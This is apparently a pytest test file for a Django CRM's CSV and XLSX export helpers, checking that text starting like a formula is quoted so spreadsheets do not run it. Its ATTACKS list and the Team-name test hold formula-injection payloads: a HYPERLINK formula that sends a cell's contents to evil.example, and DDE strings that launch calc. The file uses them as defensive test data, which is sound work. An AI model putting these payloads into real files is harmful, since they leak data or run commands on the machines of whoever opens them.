"""Exports cannot attack whoever opens them: formula-looking text is neutralised in CSV and XLSX."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy, override
from import_export import resources
from openpyxl import load_workbook

from crm.exports import (
    FormulaSafeResourceMixin,
    content_disposition,
    csv_response,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


class TestSafeCell:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_text_that_starts_a_formula_is_quoted(self, attack):
        assert safe_cell(attack) == "'" + attack

    @pytest.mark.parametrize("text", ["Acme 有限公司", "a=b", "1+1", "'already", "", "mail@example.com"])
    def test_ordinary_text_is_unchanged(self, text):
        assert safe_cell(text) == text

    @pytest.mark.parametrize("value", [-5, 3.5, Decimal("-12.30"), True, date(2026, 1, 2)])
    def test_numbers_dates_and_booleans_pass_through(self, value):
        assert safe_cell(value) == value

    def test_none_is_empty_and_objects_become_text(self):
        assert safe_cell(None) == ""
        with override("en"):
            assert safe_cell(gettext_lazy("Name")) == "Name"

        class Evil:
            def __str__(self):
                return "=1+1"

        assert safe_cell(Evil()) == "'=1+1"


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "BOM so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(body[1:])))


class TestCsvResponse:
    def test_every_cell_including_the_header_is_neutralised(self):
        response = csv_response([[a, 1] for a in ATTACKS], header=["=name", "n"], filename="x.csv")
        rows = _csv(response)
        assert rows[0] == ["'=name", "n"]
        assert [row[0] for row in rows[1:]] == ["'" + a for a in ATTACKS]
        assert response["Content-Type"] == "text/csv; charset=utf-8"

    def test_quotes_commas_newlines_and_chinese_round_trip(self):
        response = csv_response([['He said "hi", then left\nlater', "上海市 · 客户"]])
        assert _csv(response) == [['He said "hi", then left\nlater', "上海市 · 客户"]]

    def test_aware_datetimes_are_written_in_local_time(self, settings):
        settings.TIME_ZONE = "Asia/Shanghai"
        rows = _csv(csv_response([[datetime(2026, 3, 1, 1, 30, tzinfo=UTC)]]))
        assert rows == [["2026-03-01 09:30:00"]]

    def test_rows_are_streamed_from_a_generator(self):
        produced = []

        def rows():
            for i in range(3):
                produced.append(i)
                yield [i]

        response = csv_response(rows())
        assert produced == [], "nothing is read before the response is sent"
        assert len(_csv(response)) == 3

    def test_download_name_keeps_chinese_with_an_ascii_fallback(self):
        response = csv_response([], filename="客户 2026.csv")
        assert response["Content-Disposition"] == (
            "attachment; filename=\" 2026.csv\"; filename*=UTF-8''%E5%AE%A2%E6%88%B7%202026.csv")
        assert content_disposition('a"b.csv').startswith('attachment; filename="ab.csv"')


class TestXlsx:
    def test_formula_text_is_stored_as_text_never_as_a_formula(self):
        data = xlsx_bytes([[a] for a in ATTACKS], header=["=name"])
        sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml
        sheet = load_workbook(io.BytesIO(data)).active
        values = [row[0] for row in sheet.iter_rows(values_only=True)]
        # the text is kept as typed (XML stores a carriage return as a line feed)
        assert values == ["=name", *(a.replace("\r", "\n") for a in ATTACKS)]
        cells = [row[0] for row in sheet.iter_rows()]
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)

    def test_numbers_dates_and_ordinary_text_keep_their_types(self, settings):
        settings.TIME_ZONE = "Asia/Shanghai"
        data = xlsx_bytes([["Acme", -3, Decimal("2.50"), datetime(2026, 3, 1, 1, 30, tzinfo=UTC), None]])
        sheet = load_workbook(io.BytesIO(data)).active
        (row,) = sheet.iter_rows()
        assert [c.value for c in row[:4]] == ["Acme", -3, 2.5, datetime(2026, 3, 1, 9, 30)]  # noqa: DTZ001 - a spreadsheet holds naive local times
        assert not row[0].quotePrefix
        assert row[4].value in (None, "")

    def test_control_characters_do_not_break_the_file(self):
        sheet = load_workbook(io.BytesIO(xlsx_bytes([["bad\x07char"]]))).active
        assert sheet["A1"].value == "bad\ufffdchar"

    def test_response(self):
        response = xlsx_response([["x"]], filename="客户.xlsx", sheet_title="客户")
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert "filename*=UTF-8''%E5%AE%A2%E6%88%B7.xlsx" in response["Content-Disposition"]
        assert load_workbook(io.BytesIO(response.content)).sheetnames == ["客户"]


@pytest.mark.django_db
class TestImportExportResources:
    def test_admin_exports_neutralise_formulae(self, org):
        from accounts.models import Team

        Team.objects.create(name="=cmd|' /C calc'!A0")

        class TeamResource(FormulaSafeResourceMixin, resources.ModelResource):
            class Meta:
                model = Team
                fields = ("name",)

        names = [row[0] for row in TeamResource().export()]
        assert "'=cmd|' /C calc'!A0" in names
        assert "Sales" in names
